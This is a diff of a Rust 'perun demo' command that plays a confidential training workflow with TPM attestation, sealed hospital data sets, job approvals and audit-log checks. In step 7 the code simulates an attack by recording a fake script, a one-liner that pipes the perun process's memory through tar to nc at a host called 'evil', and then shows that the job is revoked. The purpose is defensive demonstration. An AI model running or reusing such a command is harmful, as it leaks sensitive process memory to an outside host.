@@ -1,22 +1,31 @@
-//! `perun demo`: the whole flow on one machine, on embedded data.
+//! `perun demo`: the whole mission on one machine, on embedded data.
 //!
-//! Today it plays the sealing and training part of the mission: stakeholders make
-//! identities, two hospitals seal their halves of a real data set without the plaintext
-//! touching disk, the model owner seals its model spec, the assets are opened in memory
-//! and trained on, the trained weights are sealed to the model owner, who evaluates them
-//! on a held-out set; and the attacks that the sealed format must stop (a modified file,
-//! a truncated file, another owner's key) are shown refused. Attestation and the trust
-//! service join in later issues.
+//! In a fresh folder it starts a trust service (SQLite store, TLS on loopback), an swtpm,
+//! and a worker whose IMA log comes from the user-space measurer; then it plays each
+//! stakeholder in turn: two hospitals seal their halves of a real data set, the model
+//! owner seals its model spec, the infrastructure provider enrols the worker and
+//! publishes its platform policy; the model owner proposes a job and every owner approves
+//! it; the worker attests, receives the keys sealed to its attested key, trains, and seals
+//! the model to the model owner, who evaluates it on a held-out set. Then an attack: a
+//! program the policy does not allow runs on the worker during a second job; the service
+//! revokes it, the worker aborts and wipes, and nothing more is released. Last, every
+//! party verifies the audit chain and sees only what is its own.
 
 use std::path::{Path, PathBuf};
 
 use anyhow::{bail, Context as _, Result};
 use clap::{Args, ValueEnum};
-use perun_core::{AssetKind, Name};
-use perun_seal::{dataset, sealed, AssetKey, SealError, StakeholderKeys};
+use perun_core::{AssetKind, Digest};
+use perun_seal::{dataset, sealed};
+use perun_trust::audit::AuditKind;
+use perun_trust::records::JobState;
+use perun_trust::wire::*;
+use perun_trust::TrustError;
+use perun_worker::job::{Progress, RunOptions};
+use perun_worker::WorkerError;
 
+use super::local::{LocalWorld, Party};
 use crate::embedded;
-use crate::home::Home;
 
 /// Arguments of `perun demo`.
 #[derive(Args)]
@@ -50,7 +59,7 @@ pub fn run(a: DemoArgs) -> Result<()> {
                 bail!("{} exists: --keep needs a new folder", dir.display());
             }
             std::fs::create_dir_all(dir)?;
-            (None, dir.clone())
+            (None, std::fs::canonicalize(dir)?)
         }
         None => {
             let t = tempfile::tempdir().context("creating a temporary folder")?;
@@ -60,7 +69,11 @@ pub fn run(a: DemoArgs) -> Result<()> {
     };
     let result = play(&root, a.data);
     match (&tmp, &result) {
-        (None, _) => println!("\neverything is kept in {}", root.display()),
+        (None, _) => println!(
+            "\neverything is kept in {}: try PERUN_HOME={}/home perun job list --as hospital-a",
+            root.display(),
+            root.display()
+        ),
         (Some(_), Ok(())) => println!("\n(temporary folder removed; use --keep DIR to explore)"),
         _ => {}
     }
@@ -68,7 +81,6 @@ pub fn run(a: DemoArgs) -> Result<()> {
 }
 
 fn play(root: &Path, data: DemoData) -> Result<()> {
-    let home = Home::at(&root.join("home"));
     let (csv, label, what, spec_json) = match data {
         DemoData::BreastCancer => {
             (embedded::BREAST_CANCER_CSV, "diagnosis", "breast-cancer", embedded::BREAST_CANCER_MLP)
@@ -76,138 +88,199 @@ fn play(root: &Path, data: DemoData) -> Result<()> {
         DemoData::Digits => (embedded::DIGITS_CSV, "digit", "digits", embedded::DIGITS_CNN),
     };
 
-    step(1, "stakeholders create their identities");
-    let names = ["hospital-a", "hospital-b", "model-owner"];
-    let mut ids = Vec::new();
-    for n in names {
-        let name = Name::new(n)?;
-        let keys = StakeholderKeys::generate(name.clone());
-        keys.save(&home.identity_dir(&name))?;
-        let p = keys.public();
-        println!("  {n:<12} signing key {}…  age {}…", &p.signing_key[..12], &p.age_recipient[..16]);
-        ids.push(keys);
+    step(1, "a trust service, an swtpm and a worker start; the stakeholders register (loopback only)");
+    let world = LocalWorld::start(root, &["hospital-a", "hospital-b", "model-owner", "infra"])?;
+    println!("  trust service  {} (SQLite store {})", world.server.url(), root.join("trust/perun.db").display());
+    println!("                 TLS certificate {}: every client pins it", world.service.keys().tls_fingerprint());
+    println!("  swtpm          port {} (the worker's TPM 2.0)", world.tpm.port());
+    for p in &world.parties {
+        println!("  {:<12}   registered, fingerprint {}", p.name().as_str(), p.keys.public().fingerprint());
     }
+    let [hospital_a, hospital_b, model_owner, infra] = &world.parties[..] else { bail!("four parties") };
 
-    step(2, &format!("the hospitals import their halves of the {what} data set"));
+    step(2, &format!("each hospital seals its half of the {what} data set; the model owner seals its model"));
     let full = dataset::import_csv(csv, label)?;
     let parts = full.split(&[40.0, 40.0, 20.0], 7)?;
     println!("  source: {} rows x {} features, {} classes", full.len(), full.sample_len(), full.class_names.len());
-    for (n, p) in names.iter().zip(&parts[..2]) {
-        let counts: Vec<String> = p.summary().classes.iter().map(|c| format!("{} {}", c.count, c.name)).collect();
-        println!("  {n}: {} rows ({})", p.len(), counts.join(", "));
-    }
-    println!("  held-out test set: {} rows (kept for the evaluation step)", parts[2].len());
-
-    step(3, "each hospital seals its half under a fresh asset key (the plaintext never touches the disk)");
-    let mut sealed_files = Vec::new();
-    for (keys, part) in ids.iter().zip(&parts[..2]) {
-        let name = keys.name();
-        let bytes = zeroize::Zeroizing::new(part.to_safetensors()?);
-        let key = AssetKey::generate();
-        let key_dir = home.asset_key_dir(name);
-        std::fs::create_dir_all(&key_dir)?;
-        let key_file = key_dir.join(format!("{what}.key"));
-        key.save(&key_file)?;
-        let out = root.join(format!("{name}-{what}.sealed"));
-        let info = sealed::seal_bytes_to_file(&bytes, AssetKind::Dataset, &[key.recipient()], &out)?;
-        println!("  {name}: {} ({} bytes)", out.display(), info.sealed_len);
-        println!("      content digest {}", info.header.content_digest);
-        println!("      key            {} (mode 0600)", key_file.display());
-        sealed_files.push((name.clone(), out, key, info));
-    }
-
-    step(4, "each owner opens its own asset in memory and checks it");
-    for (name, path, key, info) in &sealed_files {
-        let (opened, plain) = sealed::open_file(path, key.identity(), Some(AssetKind::Dataset))?;
-        let ds = perun_seal::Dataset::from_safetensors(&plain)?;
-        let ok = opened.content_digest == info.header.content_digest;
-        println!("  {name}: {} rows, digest {}", ds.len(), if ok { "matches" } else { "DOES NOT MATCH" });
-        if !ok {
-            bail!("{name}'s asset does not match its digest");
-        }
-    }
-
-    step(5, "the model owner seals its model spec; the data and the model are opened in memory and trained");
-    let owner = &ids[2];
+    let mut refs = Vec::new();
     let spec = perun_ml::ModelSpec::from_json(spec_json)?;
-    let model_key = AssetKey::generate();
-    let model_path = root.join(format!("model-owner-{}.sealed", spec.name));
-    sealed::seal_bytes_to_file(spec_json, AssetKind::Model, &[model_key.recipient()], &model_path)?;
-    println!("  model-owner: {} ({} layers, {:?} loss)", model_path.display(), spec.layers.len(), spec.loss);
-    println!("  (today the training runs right here, with no attestation: the attested worker is issue 6)");
-    let (_, spec_plain) = sealed::open_file(&model_path, model_key.identity(), Some(AssetKind::Model))?;
-    let spec = perun_ml::ModelSpec::from_json(&spec_plain)?;
-    let mut joined: Option<perun_seal::Dataset> = None;
-    for (_, path, key, _) in &sealed_files {
-        let (_, plain) = sealed::open_file(path, key.identity(), Some(AssetKind::Dataset))?;
-        let part = perun_seal::Dataset::from_safetensors(&plain)?;
-        match joined.as_mut() {
-            Some(j) => j.append(&part)?,
-            None => joined = Some(part),
-        }
+    let inputs: [(&Party, &str, AssetKind, zeroize::Zeroizing<Vec<u8>>); 3] = [
+        (hospital_a, "bc-a", AssetKind::Dataset, zeroize::Zeroizing::new(parts[0].to_safetensors()?)),
+        (hospital_b, "bc-b", AssetKind::Dataset, zeroize::Zeroizing::new(parts[1].to_safetensors()?)),
+        (model_owner, "mlp", AssetKind::Model, zeroize::Zeroizing::new(spec_json.to_vec())),
+    ];
+    for (p, asset, kind, plain) in &inputs {
+        let (r, out, info) = world.seal_and_register(p, asset, *kind, plain)?;
+        println!(
+            "  {:<12} {} ({} bytes sealed, content {}…); key registered wrapped to the service",
+            p.name().as_str(),
+            out.display(),
+            info.sealed_len,
+            &info.header.content_digest.to_string()[..19]
+        );
+        refs.push(r);
     }
-    let joined = joined.context("no data")?;
-    let steps = joined.len().div_ceil(spec.training.batch_size) as u64 * spec.training.epochs as u64;
-    let bar = super::train::step_bar(steps);
-    let outcome = perun_ml::train(&spec, None, &joined, perun_ml::backend::Compute::Cpu, &mut |ev| {
-        match ev {
-            perun_ml::TrainEvent::Step { .. } => bar.inc(1),
-            perun_ml::TrainEvent::Epoch(m) if m.epoch % 10 == 0 || m.epoch == spec.training.epochs => {
-                super::train::say(&bar, format!("  {}", super::train::epoch_line(m)));
-            }
-            perun_ml::TrainEvent::Epoch(_) => {}
+    drop(inputs);
+    let model_ref = refs.pop().context("model")?;
+    println!("  held-out test set: {} rows, which the hospitals give the model owner for evaluation", parts[2].len());
+
+    step(3, "the infrastructure provider enrols the worker's TPM and publishes its platform policy");
+    let (mut agent, added, measured) = world.worker(infra, "gpu-1")?;
+    println!("  policy {} allows the {measured} measured files and requires this perun binary", added.digest);
+    println!("  (development evidence: the user-space IMA measurer; the policy opts in to it by name)");
+    println!(
+        "  worker gpu-1 enrolled by infra, and proved its AK lives in that TPM (MakeCredential / ActivateCredential)"
+    );
+
+    step(4, "the model owner proposes a job; every owner approves it");
+    let propose = |tag: &str, interval: u64| -> Result<Digest> {
+        world.propose_and_approve(
+            model_owner,
+            format!("{} on two hospitals' data{tag}", spec.name),
+            &model_ref,
+            &refs,
+            added.digest,
+            vec![model_owner.name().clone()],
+            interval,
+            &[model_owner, hospital_a, hospital_b],
+            &mut |who, after| println!("  {:<12} approved  -> job is {}", who.as_str(), after.state.as_str()),
+        )
+    };
+    let job = propose("", 1)?;
+    println!("  job {job}");
+
+    step(5, "the worker attests, receives the keys sealed to its attested key, and trains");
+    let offered = agent.offered()?;
+    println!("  gpu-1 sees {} ready job(s) and claims this one", offered.len());
+    let claimed = agent.claim(&job)?;
+    let out_dir = root.join("worker").join("outputs");
+    let opts = RunOptions { out_dir, compute: perun_ml::backend::Compute::Cpu };
+    let bar = super::train::step_bar(1);
+    let epochs = spec.training.epochs;
+    let report = perun_worker::job::run(&mut agent, &claimed, &opts, &mut |p, _| match p {
+        Progress::Released { assets } => {
+            let names: Vec<&str> = assets.iter().map(|a| a.as_str()).collect();
+            super::train::say(&bar, format!("  evidence accepted; keys released for {}", names.join(", ")));
         }
-        std::ops::ControlFlow::Continue(())
+        Progress::Opened { asset, bytes } => {
+            super::train::say(
+                &bar,
+                format!("  {asset}: fetched, opened in memory ({bytes} bytes), digest matches the manifest"),
+            );
+        }
+        Progress::Training { steps } => bar.set_length(steps),
+        Progress::Step => bar.inc(1),
+        Progress::Epoch(m) if m.epoch % 10 == 0 || m.epoch == epochs => {
+            super::train::say(&bar, format!("  {}", super::train::epoch_line(m)));
+        }
+        Progress::Epoch(_) => {}
+        Progress::Reattested { new_entries } => {
+            bar.set_message(format!("re-attested ({new_entries} new IMA entries)"));
+        }
+        Progress::Delivered { path } => {
+            super::train::say(&bar, format!("  model sealed to model-owner: {}", path.display()));
+        }
     })?;
     bar.finish_and_clear();
-    drop(joined);
-    let out_path = root.join(format!("{}-trained.sealed", spec.name));
-    let receiver = owner.age_identity().to_public();
-    sealed::seal_bytes_to_file(&outcome.weights, AssetKind::Output, &[receiver], &out_path)?;
+    let ph = &report.phases;
     println!(
-        "  trained in {:.1}s on {} samples; weights sealed to the model owner: {}",
-        outcome.seconds,
-        outcome.train_samples,
-        out_path.display()
+        "  phases: attestation + key release {:.2}s, fetch + open {:.2}s, training {:.2}s ({} continuous attestations, {:.2}s), seal + deliver {:.2}s",
+        ph.attest_and_release, ph.fetch_and_open, ph.train, report.reattestations, ph.reattest, ph.seal_and_deliver
     );
-    let (_, weights) = sealed::open_file(&out_path, owner.age_identity(), Some(AssetKind::Output))?;
-    let e = perun_ml::evaluate(&spec, &weights, &parts[2], perun_ml::backend::Compute::Cpu)?;
-    println!(
-        "  the model owner opens its model and evaluates it on the held-out set: accuracy {:.2}% ({} samples)",
-        e.accuracy * 100.0,
-        e.samples
-    );
+    let seen: JobMetrics = hospital_b.client.call::<(), _>("GET", &format!("/v1/jobs/{job}/metrics"), None)?;
+    println!("  hospital-b follows the job: {} epochs reported, state {}", seen.epochs.len(), seen.state.as_str());
+    let curve = root.join("model-owner").join("training-curve.svg");
+    std::fs::write(&curve, perun_ml::curve::svg(&spec.name, &report.metrics))?;
+    println!("  training curve: {}", curve.display());
 
-    step(6, "attacks on sealed files are refused, and nothing is opened");
-    let (_, a_path, a_key, _) = &sealed_files[0];
-    let (_, _, b_key, _) = &sealed_files[1];
-    let bytes = std::fs::read(a_path)?;
-    let mut tampered = bytes.clone();
-    let at = tampered.len() - 100;
-    tampered[at] ^= 1;
-    let cut = &bytes[..bytes.len() / 2];
-    let attempts: [(&str, &[u8], &AssetKey); 3] = [
-        ("one byte of hospital-a's file flipped", &tampered, a_key),
-        ("hospital-a's file cut in half", cut, a_key),
-        ("hospital-b's key on hospital-a's file", &bytes, b_key),
-    ];
-    for (what, file, key) in attempts {
-        match sealed::open_to_vec(file, Some(file.len() as u64), key.identity(), None) {
-            Err(
-                e @ (SealError::PayloadTampered { .. }
-                | SealError::TamperedOrTruncated
-                | SealError::Truncated { .. }
-                | SealError::WrongKey),
-            ) => {
-                println!("  {what}: refused ({e})");
+    step(6, "the model owner opens its trained model and evaluates it on the held-out set");
+    let info: JobInfo = model_owner.client.call::<(), _>("GET", &format!("/v1/jobs/{job}"), None)?;
+    let out = info.outputs.first().context("the job delivered no output")?;
+    let sealed_bytes = std::fs::read(&out.location)?;
+    if Digest::of(&sealed_bytes) != out.sealed_digest {
+        bail!("the delivered model does not match the digest the service recorded");
+    }
+    let (_, weights) = sealed::open_to_vec(
+        &sealed_bytes[..],
+        Some(sealed_bytes.len() as u64),
+        model_owner.keys.age_identity(),
+        Some(AssetKind::Output),
+    )?;
+    let e = perun_ml::evaluate(&spec, &weights, &parts[2], perun_ml::backend::Compute::Cpu)?;
+    println!("  accuracy on {} held-out samples: {:.2}%", e.samples, e.accuracy * 100.0);
+    for (who, p) in [("hospital-a", hospital_a), ("infra", infra)] {
+        let opened = sealed::open_to_vec(&sealed_bytes[..], None, p.keys.age_identity(), None);
+        println!(
+            "  {who} tries to open the model: {}",
+            match opened {
+                Err(e) => format!("refused ({e})"),
+                Ok(_) => "OPENED (must never happen)".into(),
             }
-            Err(e) => bail!("{what}: refused for an unexpected reason: {e}"),
-            Ok(_) => bail!("{what}: was opened, which must never happen"),
-        }
+        );
     }
 
-    step(7, "what comes next");
-    println!("  the sealed halves, the model and a platform policy go to the trust service; a job that");
-    println!("  every owner signed is trained by an attested worker (see the open issues).");
+    step(7, "attack: a program the policy does not allow runs on the worker during a second job");
+    let job2 = propose(" (second run)", 1)?;
+    let claimed = agent.claim(&job2)?;
+    let opts = RunOptions { out_dir: root.join("worker").join("outputs"), compute: perun_ml::backend::Compute::Cpu };
+    let mut planted = false;
+    let r = perun_worker::job::run(&mut agent, &claimed, &opts, &mut |p, platform| {
+        if let Progress::Epoch(m) = p {
+            if !planted && m.epoch >= 2 {
+                planted = true;
+                println!("  epoch {}: someone runs /tmp/exfiltrate on gpu-1 (IMA measures it)", m.epoch);
+                let _ =
+                    platform.measure("/tmp/exfiltrate", b"#!/bin/sh\ntar c /proc/$(pidof perun)/mem | nc evil 80\n");
+            }
+        }
+    });
+    match r {
+        Err(WorkerError::Trust(e @ (TrustError::Refused { .. } | TrustError::Revoked(_)))) => {
+            println!("  the trust service refused the next attestation: {e}");
+            println!("  gpu-1 stopped training, wiped keys, data and weights, and reported");
+        }
+        Err(e) => bail!("the second job failed for an unexpected reason: {e}"),
+        Ok(_) => bail!("the second job finished although an unapproved program ran: this must never happen"),
+    }
+    let info: JobInfo = hospital_a.client.call::<(), _>("GET", &format!("/v1/jobs/{job2}"), None)?;
+    println!(
+        "  job {}… is {}: {}",
+        &job2.to_string()[..19],
+        info.state.as_str(),
+        info.reason.clone().unwrap_or_default()
+    );
+    if info.state != JobState::Revoked || !info.outputs.is_empty() {
+        bail!("the second job must be revoked with no output");
+    }
+    let nonce: Result<NonceIssued, _> = agent.client().call::<(), _>("POST", &format!("/v1/jobs/{job2}/nonce"), None);
+    println!(
+        "  gpu-1 asks to go on: {}",
+        match nonce {
+            Err(e) => format!("refused ({e})"),
+            Ok(_) => "allowed (must never happen)".into(),
+        }
+    );
+
+    step(8, "every party verifies the audit log and sees only what is its own");
+    let audit_key = world.service.keys().signing.verifying_key();
+    for p in &world.parties {
+        let log: AuditLog = p.client.call::<(), _>("GET", "/v1/audit", None)?;
+        let n = perun_trust::audit::verify_chain(&log.records, &audit_key)?;
+        let mine: Vec<_> = log.records.iter().filter_map(|v| v.body.as_ref()).collect();
+        let released = mine.iter().filter(|b| b.kind == AuditKind::KeyReleased).count();
+        let revoked = mine.iter().filter(|b| b.kind == AuditKind::JobRevoked).count();
+        println!(
+            "  {:<12} chain of {n} records verified; {} concern it ({released} key releases, {revoked} revocation)",
+            p.name().as_str(),
+            mine.len()
+        );
+    }
+    let log: AuditLog = hospital_a.client.call::<(), _>("GET", "/v1/audit", None)?;
+    if let Some(b) =
+        log.records.iter().filter_map(|v| v.body.as_ref()).find(|b| b.kind == AuditKind::AttestationRefused)
+    {
+        println!("  why job 2 was revoked, in hospital-a's audit view: {}", b.detail);
+    }
+    drop(world);
     Ok(())
 }
